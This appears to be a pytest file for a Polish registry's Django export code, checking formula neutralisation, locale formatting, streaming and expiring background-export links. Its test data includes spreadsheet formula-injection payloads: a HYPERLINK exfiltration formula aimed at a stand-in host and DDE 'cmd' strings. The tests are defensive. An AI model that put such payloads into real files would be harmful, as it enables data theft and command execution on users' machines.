"""Exports never hand a spreadsheet a formula taken from data (CSV and XLSX alike); they open
correctly in a Polish spreadsheet (decimal comma in CSV, numbers and dates typed in XLSX); they are
streamed, and a long one is a background job with a progress page and an expiring download link."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import time
import zipfile
from decimal import Decimal
from types import SimpleNamespace
from unittest import mock

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from ksr.audit.choices import AuditAction
from ksr.audit.models import AuditEntry
from ksr.core.exports import CSV_CHUNK_ROWS, csv_chunks, csv_response, neutralise, xlsx_response
from ksr.registry.choices import OrganisationKind
from ksr.testing import OrganisationFactory, response_bytes, unit

DANGEROUS = [
    '=HYPERLINK("http://zly.example/?d="&A1;"Kliknij")',
    "+48 22 123",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
COLUMNS = [("Nazwa", lambda o: o.name), ("Liczba", lambda o: o.n)]


@pytest.mark.parametrize("text", DANGEROUS)
def test_neutralise_prefixes_a_formula_start(text):
    assert neutralise(text) == "'" + text
    assert neutralise("Klub =1") == "Klub =1"


def _objects():
    return [SimpleNamespace(name=text, n=-3) for text in DANGEROUS]


def test_csv_cells_are_neutralised():
    body = response_bytes(csv_response(_objects(), COLUMNS, "x")).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body, newline=""), delimiter=";"))[1:]
    assert [r[0] for r in rows] == ["'" + t for t in DANGEROUS]
    assert all(r[1] == "-3" for r in rows)  # a number stays a number


def test_xlsx_stores_no_formula_from_data():
    content = response_bytes(xlsx_response(_objects(), COLUMNS, "x"))
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(content)).active
    names = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert [n.replace("\n", "\r") for n in names[-1:]] == ["'\r=1+1"]  # XML reads \r back as \n
    assert names[:-1] == ["'" + t for t in DANGEROUS[:-1]]
    assert all(row[0].data_type == "s" for row in sheet.iter_rows(min_row=2))


@pytest.mark.django_db
def test_an_organisation_named_like_a_formula_is_a_string_in_the_registry_export(cast, login):
    name = '=HYPERLINK("http://zly.example","Klub")'
    OrganisationFactory(name=name, kind=OrganisationKind.KIS, seat=unit("1465011"))
    client = login(cast.admin)
    url = reverse("registry:organisation_list")
    content = response_bytes(client.get(url, {"format": "xlsx"}))
    assert "<f>" not in zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value and "HYPERLINK" in str(c.value)]
    assert cells and all(c.data_type == "s" and str(c.value).startswith("'=") for c in cells)
    text = response_bytes(client.get(url, {"format": "csv"})).decode("utf-8-sig")
    assert "'=HYPERLINK" in text and ";=HYPERLINK" not in text and not text.startswith("=")


TYPED = [SimpleNamespace(name="Klub", n=Decimal("26.5"), f=0.25, i=40, d=dt.date(2026, 11, 30))]
TYPED_COLUMNS = [
    ("Nazwa", lambda o: o.name),
    ("Godziny", lambda o: o.n),
    ("Udział", lambda o: o.f),
    ("Liczba", lambda o: o.i),
    ("Data", lambda o: o.d),
]


def test_csv_is_streamed_with_a_decimal_comma_for_a_polish_spreadsheet():
    response = csv_response(TYPED, TYPED_COLUMNS, "x")
    assert response.streaming
    rows = list(csv.reader(io.StringIO(response_bytes(response).decode("utf-8-sig")), delimiter=";"))
    assert rows[1] == ["Klub", "26,5", "0,25", "40", "2026-11-30"]


def test_csv_chunks_hold_a_bounded_number_of_rows():
    many = [SimpleNamespace(name=f"Klub {i}", n=i) for i in range(CSV_CHUNK_ROWS * 2 + 1)]
    chunks = list(csv_chunks(many, COLUMNS))
    assert len(chunks) == 3  # header and 500 rows, 500 rows, the last row
    assert "".join(chunks).count("\n") == CSV_CHUNK_ROWS * 2 + 2


def test_xlsx_stores_numbers_as_numbers_and_dates_as_dates():
    sheet = load_workbook(io.BytesIO(response_bytes(xlsx_response(TYPED, TYPED_COLUMNS, "x")))).active
    name, hours, share, count, day = next(sheet.iter_rows(min_row=2))
    assert name.data_type == "s"
    assert (hours.data_type, hours.value) == ("n", 26.5)
    assert (share.value, count.value) == (0.25, 40)
    assert day.is_date and day.value.date() == dt.date(2026, 11, 30)


@pytest.fixture
def background(settings):
    settings.KSR_EXPORT_BACKGROUND_ROWS = 1
    return settings


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_long_export_is_a_background_job_with_progress_and_a_link_for_its_owner(background, cast, login, fmt):
    OrganisationFactory(name="Klub Eksportowy", kind=OrganisationKind.KIS, seat=unit("1465011"))
    client = login(cast.admin)
    url = reverse("registry:organisation_list")
    response = client.get(url, {"format": fmt, "q": "Eksportowy"})
    assert response.status_code == 200 and response_bytes(response)  # one row: under the threshold, sent at once
    exported = AuditEntry.objects.filter(action=AuditAction.EXPORT).count()
    response = client.get(url, {"format": fmt})
    assert response.status_code == 302 and "/eksport/" in response["Location"]
    assert AuditEntry.objects.filter(action=AuditAction.EXPORT).count() == exported + 1
    page = client.get(response["Location"])
    html = page.content.decode()
    main = html.split("<main", 1)[1]
    assert page.status_code == 200 and "hx-trigger" not in main  # done: no more polling
    link = re.search(r'href="(/eksport/pobierz/[^"]+)"', html).group(1)
    content = response_bytes(client.get(link))
    if fmt == "csv":
        assert "Klub Eksportowy" in content.decode("utf-8-sig")
    else:
        names = [row[0] for row in load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True)]
        assert "Klub Eksportowy" in names
    other = login(cast.zenon)
    assert other.get(response["Location"]).status_code == 404
    assert other.get(link).status_code == 404


@pytest.mark.django_db
def test_the_download_link_expires(background, cast, login):
    client = login(cast.admin)
    job = client.get(reverse("registry:organisation_list"), {"format": "csv"})["Location"]
    link = re.search(r'href="(/eksport/pobierz/[^"]+)"', client.get(job).content.decode()).group(1)
    download = client.get(link)
    assert download.status_code == 200 and response_bytes(download)
    later = time.time() + background.KSR_EXPORT_LINK_HOURS * 3600 + 1
    with mock.patch("django.core.signing.time.time", return_value=later):
        assert client.get(link).status_code == 404
